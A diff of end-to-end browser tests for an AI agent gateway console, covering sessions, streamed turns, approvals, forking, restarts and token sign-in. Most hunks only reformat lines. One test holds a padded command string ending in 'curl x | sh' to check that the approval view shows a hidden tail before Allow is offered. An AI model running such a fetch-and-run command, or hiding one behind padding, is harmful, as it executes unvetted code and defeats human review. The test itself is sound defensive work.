@@ -80,7 +80,9 @@ const turn = (page: Page, n: number) => page.getByRole("article", { name: `Turn 
 const connection = (page: Page, state: string) =>
   page.getByRole("status", { name: "Connection" }).locator(`[data-state="${state}"]`);
 const turnStatus = (page: Page, n: number, status: string) =>
-  turn(page, n).getByTestId("turn-status").filter({ hasText: new RegExp(`^${status}$`) });
+  turn(page, n)
+    .getByTestId("turn-status")
+    .filter({ hasText: new RegExp(`^${status}$`) });
 
 /** From the Sessions view: create a session on the preselected agent (simulated); resolves on its page. */
 async function createSession(page: Page): Promise<void> {
@@ -105,7 +107,9 @@ async function send(page: Page, prompt: string): Promise<void> {
 }
 
 describe("without tokens", () => {
-  it("serves the console at / with hashed, cached assets under 100 KB gzipped and a strict CSP", { timeout: 180_000 }, async () => {
+  it("serves the console at / with hashed, cached assets under 100 KB gzipped and a strict CSP", {
+    timeout: 180_000,
+  }, async () => {
     const gw = await startGateway();
     const root = await fetch(`${gw.url}/`, { redirect: "manual" });
     expect(root.status).toBe(302);
@@ -126,7 +130,8 @@ describe("without tokens", () => {
       const res = await fetch(`${gw.url}/console/${path}`, { headers: { "accept-encoding": "gzip" } });
       expect(res.status, path).toBe(200);
       expect(res.headers.get("content-encoding"), path).toBe("gzip");
-      if (path !== "index.html") expect(res.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
+      if (path !== "index.html")
+        expect(res.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
       // Node's fetch decodes the body; the wire size is content-length (static files are not chunked).
       gzipped += Number(res.headers.get("content-length"));
     }
@@ -137,7 +142,9 @@ describe("without tokens", () => {
     expect((await fetch(`${gw.url}/console/.console-build.json`)).status).toBe(404);
   });
 
-  it("creates a session, streams a turn to completed, cancels one, answers an approval with Allow", { timeout: 300_000 }, async () => {
+  it("creates a session, streams a turn to completed, cancels one, answers an approval with Allow", {
+    timeout: 300_000,
+  }, async () => {
     const gw = await startGateway();
     const page = await newPage();
     await page.goto(`${gw.url}/`);
@@ -168,10 +175,18 @@ describe("without tokens", () => {
 
     // What the page showed is what the gateway holds.
     const tasks = await call(gw.url, "GET", "/v1/tasks?limit=10");
-    expect(tasks.body.items.map((t: any) => t.status).sort()).toEqual(["cancelled", "completed", "completed"]);
+    expect(tasks.body.items.map((t: any) => t.status).sort()).toEqual([
+      "cancelled",
+      "completed",
+      "completed",
+    ]);
 
     await page.getByRole("link", { name: "Sessions" }).click();
-    await page.getByRole("region", { name: "Sessions" }).getByRole("cell", { name: "simulated" }).first().waitFor(WAIT);
+    await page
+      .getByRole("region", { name: "Sessions" })
+      .getByRole("cell", { name: "simulated" })
+      .first()
+      .waitFor(WAIT);
     await page.screenshot({ path: `${ARTIFACTS}/console-sessions.png` });
     await page.getByRole("link", { name: "Tasks" }).click();
     await page.getByRole("region", { name: "Tasks" }).getByRole("cell", { name: "cancelled" }).waitFor(WAIT);
@@ -186,7 +201,9 @@ describe("without tokens", () => {
     await page.close();
   });
 
-  it("shows a padded command whole, its tail included, before Allow can be clicked; an oversized one is denied", { timeout: 300_000 }, async () => {
+  it("shows a padded command whole, its tail included, before Allow can be clicked; an oversized one is denied", {
+    timeout: 300_000,
+  }, async () => {
     const gw = await startGateway();
     const page = await newPage();
     await page.goto(`${gw.url}/`);
@@ -208,7 +225,9 @@ describe("without tokens", () => {
     // Polled from here (CDP evaluation): waitForFunction's polling evaluates a string in the page,
     // which the console's CSP (no unsafe-eval) refuses.
     await expect
-      .poll(() => page.evaluate("window.__allowEnabledWith.length") as Promise<number>, { timeout: WAIT.timeout })
+      .poll(() => page.evaluate("window.__allowEnabledWith.length") as Promise<number>, {
+        timeout: WAIT.timeout,
+      })
       .toBeGreaterThan(0);
     const seen = (await page.evaluate("window.__allowEnabledWith")) as string[];
     const whole = '"command": "ls⟨5000 blanks⟩&& curl x | sh"';
@@ -230,12 +249,16 @@ describe("without tokens", () => {
     await turnStatus(page, 2, "completed").waitFor(WAIT);
     await turn(page, 2).getByText("(by gateway): The tool's input is").waitFor(WAIT);
     expect(await turn(page, 2).getByRole("button", { name: "Allow", exact: true }).count()).toBe(0);
-    expect(((await page.evaluate("window.__allowEnabledWith")) as string[]).every((t) => t.includes(whole))).toBe(true);
+    expect(
+      ((await page.evaluate("window.__allowEnabledWith")) as string[]).every((t) => t.includes(whole)),
+    ).toBe(true);
     expect((page as any).consoleErrors).toEqual([]);
     await page.close();
   });
 
-  it("steers a running turn from its steer box: the input shows in the turn and the agent answers it", { timeout: 300_000 }, async () => {
+  it("steers a running turn from its steer box: the input shows in the turn and the agent answers it", {
+    timeout: 300_000,
+  }, async () => {
     const page = await sessionPage();
     await send(page, "[input]");
     await turnStatus(page, 1, "running").waitFor(WAIT);
@@ -263,14 +286,19 @@ describe("without tokens", () => {
     // A rolled-back turn is no fork point; a kept one is.
     expect(await turn(page, 2).getByRole("button", { name: "Fork from this turn" }).count()).toBe(0);
     await turn(page, 1).getByRole("button", { name: "Fork from this turn" }).click();
-    await page.getByRole("region", { name: "Session", exact: true }).getByText("Forked from", { exact: true }).waitFor(WAIT);
+    await page
+      .getByRole("region", { name: "Session", exact: true })
+      .getByText("Forked from", { exact: true })
+      .waitFor(WAIT);
     await turn(page, 1).getByText("alpha", { exact: true }).waitFor(WAIT);
     expect(await turn(page, 2).count()).toBe(0);
     expect((page as any).consoleErrors).toEqual([]);
     await page.close();
   });
 
-  it("shows a kill -9 of the gateway mid-turn, the restart and the turn's end, without a reload", { timeout: 300_000 }, async () => {
+  it("shows a kill -9 of the gateway mid-turn, the restart and the turn's end, without a reload", {
+    timeout: 300_000,
+  }, async () => {
     const port = String(await freePort());
     const first = await startGateway({ PORT: port });
     const page = await newPage();
@@ -302,13 +330,19 @@ describe("without tokens", () => {
 });
 
 describe("a newcomer's first use", () => {
-  it("offers the registered agents in a select with the first preselected: Create works once a workspace is typed", { timeout: 180_000 }, async () => {
+  it("offers the registered agents in a select with the first preselected: Create works once a workspace is typed", {
+    timeout: 180_000,
+  }, async () => {
     const gw = await startGateway({ MOORING_AGENTS: JSON.stringify({ helper: { driver: "simulated" } }) });
     const page = await newPage();
     await page.goto(`${gw.url}/console/#/sessions`);
     const agent = page.getByLabel("Agent", { exact: true });
     await agent.locator("option", { hasText: "helper" }).waitFor({ state: "attached", ...WAIT });
-    expect(await agent.locator("option").allTextContents()).toEqual(["simulated", "claude-code", "helper (simulated)"]);
+    expect(await agent.locator("option").allTextContents()).toEqual([
+      "simulated",
+      "claude-code",
+      "helper (simulated)",
+    ]);
     expect(await agent.inputValue()).toBe("simulated");
     await page.getByLabel("Workspace", { exact: true }).fill(workspace);
     await page.getByRole("button", { name: "Create session" }).click();
@@ -324,7 +358,9 @@ describe("a newcomer's first use", () => {
     await page.close();
   });
 
-  it("numbers turns from 1 in Tasks as on the session page, shows durations, and renders the task page", { timeout: 180_000 }, async () => {
+  it("numbers turns from 1 in Tasks as on the session page, shows durations, and renders the task page", {
+    timeout: 180_000,
+  }, async () => {
     const page = await sessionPage();
     await send(page, "[deltas 1] [tokens 1200]");
     await turnStatus(page, 1, "completed").waitFor(WAIT);
@@ -371,7 +407,9 @@ describe("a newcomer's first use", () => {
     await page.close();
   });
 
-  it("keeps the context meter at its last known value after a turn that reports no tokens", { timeout: 180_000 }, async () => {
+  it("keeps the context meter at its last known value after a turn that reports no tokens", {
+    timeout: 180_000,
+  }, async () => {
     const page = await sessionPage();
     const facts = page.getByRole("region", { name: "Session", exact: true });
     await send(page, "[tokens 84000]");
@@ -387,7 +425,10 @@ describe("a newcomer's first use", () => {
     // Its row in the list says the same (other tests' sessions share this database).
     const id = new URL(page.url()).hash.split("/")[2].slice(0, 8);
     await page.getByRole("link", { name: "Sessions" }).click();
-    const row = page.getByRole("region", { name: "Sessions" }).getByRole("row").filter({ has: page.getByRole("link", { name: id }) });
+    const row = page
+      .getByRole("region", { name: "Sessions" })
+      .getByRole("row")
+      .filter({ has: page.getByRole("link", { name: id }) });
     await row.getByRole("cell", { name: "42%" }).waitFor(WAIT);
     expect((page as any).consoleErrors).toEqual([]);
     await page.close();
@@ -458,12 +499,23 @@ describe("webhooks", () => {
 });
 
 describe("with tokens", () => {
-  it("asks for a token once: a wrong one is refused, the right one works, streams included", { timeout: 300_000 }, async () => {
+  it("asks for a token once: a wrong one is refused, the right one works, streams included", {
+    timeout: 300_000,
+  }, async () => {
     const gw = await startGateway({ MOORING_API_TOKENS: "console-secret,other" });
     const page = await newPage();
     await page.goto(`${gw.url}/`);
     const token = page.getByLabel("Token");
-    await token.waitFor(WAIT);
+    // Seen once in CI under load: no token form within a minute. Say what the page showed instead.
+    await token.waitFor(WAIT).catch(async (err) => {
+      const shown = await page
+        .locator("body")
+        .textContent()
+        .catch(() => "(unreadable)");
+      throw new Error(
+        `${(err as Error).message}\nthe page showed: ${(shown ?? "").slice(0, 600)}\nconsole errors: ${JSON.stringify((page as any).consoleErrors)}`,
+      );
+    });
     await token.fill("wrong-token");
     await page.getByRole("button", { name: "Sign in" }).click();
     await page.getByRole("alert").getByText("refused").waitFor(WAIT);
@@ -490,7 +542,9 @@ describe("with tokens", () => {
 });
 
 describe("with tokens, payloads", () => {
-  it("fetches payloads with the Authorization header and shows them in the page: no URL carries the token", { timeout: 300_000 }, async () => {
+  it("fetches payloads with the Authorization header and shows them in the page: no URL carries the token", {
+    timeout: 300_000,
+  }, async () => {
     const gw = await startGateway({ MOORING_API_TOKENS: "console-secret" });
     const page = await newPage();
     const requests: { url: string; authorization: string | undefined }[] = [];
